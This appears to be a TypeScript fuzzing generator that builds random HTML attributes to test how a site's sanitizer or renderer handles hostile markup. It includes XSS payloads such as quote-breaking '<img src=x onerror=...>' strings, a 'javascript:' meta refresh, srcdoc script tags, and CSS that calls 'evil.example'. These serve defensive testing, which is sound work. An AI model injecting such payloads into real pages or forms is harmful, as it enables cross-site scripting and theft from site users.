import type { Random } from '../Random.ts'
import { addressOf } from './addressOf.ts'
import { mixedCase, scripts, strangeOf, wordsOf } from './words.ts'

const list = (words: string) => words.split(' ')

const handlers = list(
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbeforetoggle onbegin onanimationstart onscroll ' +
    'onscrollend onbeforeunload onhashchange onpageshow oncontentvisibilityautostatechange onsecuritypolicyviolation on',
)

const addresses = list(
  'href src cite srcset action formaction data poster background ping xlink:href codebase longdesc usemap manifest lowsrc ' +
    'dynsrc profile classid archive icon imagesrcset attributionsrc',
)

const settings = list(
  'class id name title alt role tabindex lang dir is slot part exportparts nonce integrity contenteditable draggable hidden ' +
    'autofocus accesskey popover popovertarget command commandfor inert translate itemscope itemprop form for target rel ' +
    'download type value checked disabled multiple size start reversed open span colspan rowspan headers scope abbr width ' +
    'height loading decoding fetchpriority crossorigin referrerpolicy sandbox allow srcdoc http-equiv content charset media ' +
    'shadowrootmode shadowrootclonable encoding xmlns xmlns:xlink attributeName to values from by dur fill data-island ' +
    'data-props data-when data-copy data-search data-menu data-tooltip data-reveal data-addresses data-in-place data-language ' +
    'autoplay controls controlslist loop muted playsinline preload poster aria-label aria-hidden aria-describedby aria-owns aria-activedescendant constructor __proto__ prototype',
)

/** Ids and names that scripts of a page ask for, or that the page has already. */
const names = list(
  'main location cookie body head forms self top parent constructor __proto__ toString getElementById querySelector ' +
    'documentElement currentScript defaultView attributes innerHTML content footer search tooltip toc footnotes theme a a-1 ' +
    'fn-1 fnref-1 fnref-1-2 section section-1 x X x_1 user-content-x',
)

/** Classes of the site's own styles, which place what has them. */
const classes = list(
  'prose code anchor heading callout callout-note cta cta-link cta-all footnotes footnote-back table-scroll task-list theme-dark theme-light ' +
    'visually-hidden skip-link tooltip search phone-menu header footer error-screen blog-reader post__title back-link ' +
    'code__copy button toasts viewer carousel hljs-keyword language-yaml align-center',
)

/** Attributes of a start tag, with a space before each: handlers, addresses, settings, and what a careless reader takes for one. */
export const attributesOf = (random: Random): string =>
  random.chance(0.35) ? '' : random.several(() => attributeOf(random), [1, 4])

const attributeOf = (random: Random): string => {
  const space = random.pick([' ', ' ', ' ', '\n', '\t', '/', ' / ', '\f', '\r', '\u00a0', ''])
  return (
    space +
    random.produce([
      [5, () => pair(random, random.pick(addresses), addressOf(random))],
      [4, () => pair(random, mixedCase(random, random.pick(handlers)), random.pick(scripts))],
      [5, () => pair(random, mixedCase(random, random.pick(settings)), valueOf(random))],
      [
        3,
        () =>
          pair(
            random,
            random.pick(['id', 'name', 'href', 'for', 'aria-labelledby', 'headers']),
            idOf(random),
          ),
      ],
      [
        2,
        () =>
          pair(
            random,
            'class',
            random.several(() => random.pick(classes), [1, 3], ' '),
          ),
      ],
      [1, () => pair(random, random.pick(['style', 'STYLE', 'st\0yle', 'style\f']), styleOf(random))],
      [
        1,
        () =>
          pair(
            random,
            random.pick(['srcset', 'imagesrcset']),
            `${addressOf(random)} 1x, ${addressOf(random)} 2x`,
          ),
      ],
      [1, () => pair(random, 'srcdoc', `<script>${random.pick(scripts)}</script>`)],
      [
        1,
        () =>
          random.pick([
            '=',
            '"',
            "'",
            '<',
            '`',
            '""',
            "''",
            '"x"',
            '<b',
            '{{x}}',
            '@click=x',
            ':href=x',
            'v-html=x',
            '[x]',
            '(x)',
            '*x',
          ]),
      ],
      [1, () => pair(random, strangeOf(random) + random.pick(handlers), random.pick(scripts))],
    ])
  )
}

const idOf = (random: Random): string => (random.chance(0.2) ? '#' : '') + random.pick(names)

const valueOf = (random: Random): string =>
  random.produce([
    [3, () => wordsOf(random)],
    [
      2,
      () =>
        random.pick([
          '0',
          '1',
          '-1',
          '99999999999',
          '1e9',
          'NaN',
          '100%',
          'true',
          '_blank',
          '_top',
          'refresh',
          '0;url=javascript:alert(1)',
        ]),
    ],
    [1, () => idOf(random)],
    [1, () => addressOf(random)],
    [1, () => `<script>${random.pick(scripts)}</script>`],
    [
      1,
      () =>
        `</${random.pick(['p', 'script', 'style', 'title', 'textarea', 'template'])}><img src=x onerror=${random.pick(scripts)}>`,
    ],
    [1, () => `"'\`><img src=x onerror=${random.pick(scripts)}>`],
    [1, () => `&quot;><img src=x onerror=${random.pick(scripts)}>`],
  ])

const styleOf = (random: Random): string =>
  random.pick([
    'position:fixed;inset:0',
    'background:url(https://evil.example/x)',
    '@import "https://evil.example/x.css"',
    'width:expression(alert(1))',
    '-moz-binding:url(//evil.example)',
    'animation-name:x',
  ])

/** A name with its value, in quotes that fit, do not fit, or are missing. */
function pair(random: Random, name: string, value: string): string {
  const equals = random.pick(['=', '=', '=', '=', ' = ', '\n=\n', '==', '&#61;', '=\0'])
  const [open, close] = random.pick([
    ['"', '"'],
    ['"', '"'],
    ["'", "'"],
    ['', ''],
    ['`', '`'],
    ['"', ''],
    ['\u201c', '\u201d'],
    ['&quot;', '&quot;'],
  ] as const)
  return random.chance(0.05) ? name : name + equals + open + value + close
}
